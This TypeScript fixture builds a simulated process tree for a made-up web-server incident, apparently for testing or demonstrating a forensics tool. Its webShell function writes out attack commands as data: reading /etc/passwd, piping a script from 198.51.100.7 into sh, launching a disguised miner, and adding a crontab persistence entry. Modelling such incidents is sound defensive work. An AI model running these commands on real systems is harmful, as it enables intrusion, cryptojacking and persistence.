/** A made-up incident on a made-up host: a web shell, its miner, and other users and jobs. */
import { type Made, Scene } from './scene.ts';

/** 2026-11-01 09:04:00 UTC. */
const AT = 1_793_523_840;
const BOOT = AT - 86_400;

export function incident(): Scene {
  const scene = new Scene();
  const init = scene.process(1, ['/usr/lib/systemd/systemd', '--system'], { at: BOOT });
  kernel(scene);
  const service = (pid: number, args: string[], uid = 0) =>
    scene.process(pid, args, { parent: init, at: BOOT + 4, uid });
  const journald = service(412, ['/usr/lib/systemd/systemd-journald']);
  const cron = service(700, ['/usr/sbin/cron', '-f']);
  const sshd = service(812, ['/usr/sbin/sshd', '-D']);
  const postgres = service(880, ['/usr/lib/postgresql/15/bin/postgres', '-D', '/var/lib/postgresql/15/main'], 109);
  const nginx = service(903, ['/usr/sbin/nginx', '-g', 'daemon on; master_process on;']);
  const fpm = service(950, ['/usr/sbin/php-fpm8.2', '--nodaemonize', '--fpm-config', '/etc/php/8.2/fpm/php-fpm.conf']);
  void journald;
  for (const pid of [904, 905]) {
    scene.process(pid, ['/usr/sbin/nginx', '-g', 'daemon on; master_process on;'], {
      parent: nginx,
      at: BOOT + 5,
      uid: 33,
    });
  }
  for (const [pid, what] of [
    [881, 'checkpointer'],
    [882, 'walwriter'],
  ] as const) {
    scene.process(pid, [`postgres: ${what}`], {
      parent: postgres,
      at: BOOT + 5,
      uid: 109,
      path: '/usr/lib/postgresql/15/bin/postgres',
    });
  }
  const worker = (pid: number) =>
    scene.process(pid, ['/usr/sbin/php-fpm8.2', '--nodaemonize', '--fpm-config', '/etc/php/8.2/fpm/php-fpm.conf'], {
      parent: fpm,
      at: BOOT + 6,
      uid: 33,
    });
  const workers = [worker(951), worker(952)];

  jobs(scene, cron);
  deployment(scene, sshd);
  maintenance(scene, sshd);
  if (workers[0]) webShell(scene, workers[0]);
  scene.events.sort((a, b) => a.time - b.time);
  return scene;
}

function kernel(scene: Scene): void {
  const about = { at: BOOT, entry: 'kthread', path: '' };
  const kthreadd = scene.process(2, ['[kthreadd]'], about);
  const names = ['rcu_gp', 'ksoftirqd/0', 'migration/0', 'kworker/0:1', 'kswapd0', 'jbd2/vda1-8'];
  for (const [at, name] of names.entries()) scene.process(10 + at, [`[${name}]`], { ...about, parent: kthreadd });
}

function jobs(scene: Scene, cron: Made): void {
  for (const [at, job] of ['logrotate', 'man-db', 'dpkg'].entries()) {
    const time = AT - 170 + at;
    const pid = 6001 + at * 5;
    const about = { parent: cron, at: time, auid: 0 };
    const forked = scene.process(pid, ['/usr/sbin/cron', '-f'], about);
    const shell = scene.run(
      pid + 1,
      ['/bin/sh', '-c', `test -x /etc/cron.daily/${job} && /etc/cron.daily/${job}`],
      { ...about, parent: forked },
      { at: time + 1, code: at === 1 ? 1 : 0 },
    );
    scene.run(
      pid + 2,
      [`/etc/cron.daily/${job}`],
      { ...about, parent: shell },
      { at: time + 1, code: at === 1 ? 1 : 0 },
    );
    scene.end(forked, { at: time + 1 });
  }
}

function login(scene: Scene, sshd: Made, pid: number, at: number, uid: number, tty: string, ip: string): Made {
  const listener = scene.run(pid, ['/usr/sbin/sshd', '-D', '-R'], { parent: sshd, at });
  const own = scene.process(pid + 14, ['/usr/sbin/sshd', '-D', '-R'], { parent: listener, at: at + 1, uid, auid: uid });
  const about = {
    parent: own,
    at: at + 1,
    uid,
    auid: uid,
    tty,
    sid: pid + 15,
    entry: 'sshd',
    ip,
    cwd: uid === 1000 ? '/home/deploy' : '/home/mara',
  };
  return scene.run(pid + 15, ['-bash'], { ...about, path: '/usr/bin/bash' });
}

function deployment(scene: Scene, sshd: Made): void {
  const at = AT - 110;
  const ip = '203.0.113.24';
  const bash = login(scene, sshd, 4021, at, 1000, 'pts/0', ip);
  const about = {
    parent: bash,
    uid: 1000,
    auid: 1000,
    tty: 'pts/0',
    sid: 4036,
    entry: 'sshd',
    ip,
    cwd: '/home/deploy/shop',
  };
  const git = scene.run(4051, ['git', 'pull', '--ff-only'], { ...about, at: at + 5 }, { at: at + 8 });
  const fetch = scene.run(
    4052,
    ['/usr/lib/git-core/git', 'fetch', '--update-head-ok'],
    { ...about, parent: git, at: at + 5 },
    { at: at + 7 },
  );
  scene.run(
    4053,
    ['/usr/bin/ssh', 'git@198.51.100.20', "git-upload-pack 'shop.git'"],
    { ...about, parent: fetch, at: at + 6 },
    { at: at + 7 },
  );
  const npm = scene.run(
    4060,
    ['npm', 'ci', '--omit=dev'],
    { ...about, at: at + 12, path: '/usr/bin/node' },
    { at: at + 41, code: 1 },
  );
  for (let n = 0; n < 14; n++) {
    const failed = n === 11;
    const own = { ...about, parent: npm, at: at + 14 + n * 2, cwd: `/home/deploy/shop/node_modules/dep-${n}` };
    const shell = scene.run(
      4070 + n * 3,
      ['sh', '-c', failed ? 'node-gyp rebuild' : 'node install.js'],
      { ...own, path: '/usr/bin/dash' },
      { at: own.at + 1, code: failed ? 1 : 0 },
    );
    scene.run(
      4071 + n * 3,
      failed ? ['node-gyp', 'rebuild'] : ['node', 'install.js'],
      { ...own, parent: shell },
      { at: own.at + 1, code: failed ? 1 : 0 },
    );
  }
  const sudo = scene.process(4130, ['-bash'], { ...about, at: at + 60, path: '/usr/bin/bash' });
  scene.exec(sudo, ['sudo', 'systemctl', 'reload', 'php8.2-fpm'], { ...about, at: at + 60, euid: 0 });
  scene.exec(sudo, ['systemctl', 'reload', 'php8.2-fpm'], { ...about, uid: 0, at: at + 61 });
  scene.end(sudo, { at: at + 62 });
}

function maintenance(scene: Scene, sshd: Made): void {
  const at = AT - 45;
  const ip = '203.0.113.80';
  const bash = login(scene, sshd, 5021, at, 1001, 'pts/1', ip);
  const about = { parent: bash, uid: 1001, auid: 1001, tty: 'pts/1', sid: 5036, entry: 'sshd', ip, cwd: '/home/mara' };
  scene.run(5051, ['less', '/var/log/nginx/error.log'], { ...about, at: at + 8 }, { at: at + 30 });
  scene.run(5053, ['top', '-d', '2'], { ...about, at: at + 33 });
}

function webShell(scene: Scene, worker: Made): void {
  const at = AT - 24;
  const about = { parent: worker, uid: 33, cwd: '/var/www/shop/public/uploads' };
  const first = scene.run(
    5120,
    ['sh', '-c', 'id; uname -a; cat /etc/passwd'],
    { ...about, at, path: '/usr/bin/dash' },
    { at: at + 1 },
  );
  for (const [n, args] of [['id'], ['uname', '-a'], ['cat', '/etc/passwd']].entries()) {
    scene.run(5121 + n, args, { ...about, parent: first, at }, { at: at + 1 });
  }
  const second = scene.process(5140, ['/usr/sbin/php-fpm8.2'], { ...about, at: at + 9 });
  scene.exec(second, ['sh', '-c', 'curl -fsSL http://198.51.100.7/i.sh | sh'], {
    ...about,
    at: at + 9,
    path: '/usr/bin/dash',
  });
  scene.run(
    5141,
    ['curl', '-fsSL', 'http://198.51.100.7/i.sh'],
    { ...about, parent: second, at: at + 9 },
    { at: at + 11 },
  );
  const script = scene.run(
    5142,
    ['sh'],
    { ...about, parent: second, at: at + 9, path: '/usr/bin/dash' },
    { at: at + 14 },
  );
  const under = { ...about, parent: script, at: at + 11 };
  scene.run(5143, ['uname', '-m'], under, { at: at + 11 });
  scene.run(5144, ['chmod', '+x', '/tmp/.x/kworkerd'], under, { at: at + 12 });
  scene.run(5145, ['sudo', '-n', 'true'], { ...under, at: at + 12, euid: 0 }, { at: at + 12, code: 1 });
  scene.run(5146, ['pkill', '-9', 'xmrig'], { ...under, at: at + 13 }, { at: at + 13, code: 1 });
  const forked = scene.process(5147, ['sh'], { ...under, at: at + 13, path: '/usr/bin/dash' });
  scene.run(5148, ['/tmp/.x/kworkerd', '-o', '198.51.100.7:3333', '--coin', 'x'], {
    ...about,
    parent: forked,
    at: at + 14,
    cwd: '/tmp/.x',
  });
  scene.end(forked, { at: at + 14 });
  scene.end(second, { at: at + 14 });
  scene.run(
    5160,
    ['sh', '-c', '(crontab -l; echo "* * * * * /tmp/.x/kworkerd") | crontab -'],
    { ...about, at: at + 19, path: '/usr/bin/dash' },
    { at: at + 20, signal: 9 },
  );
}
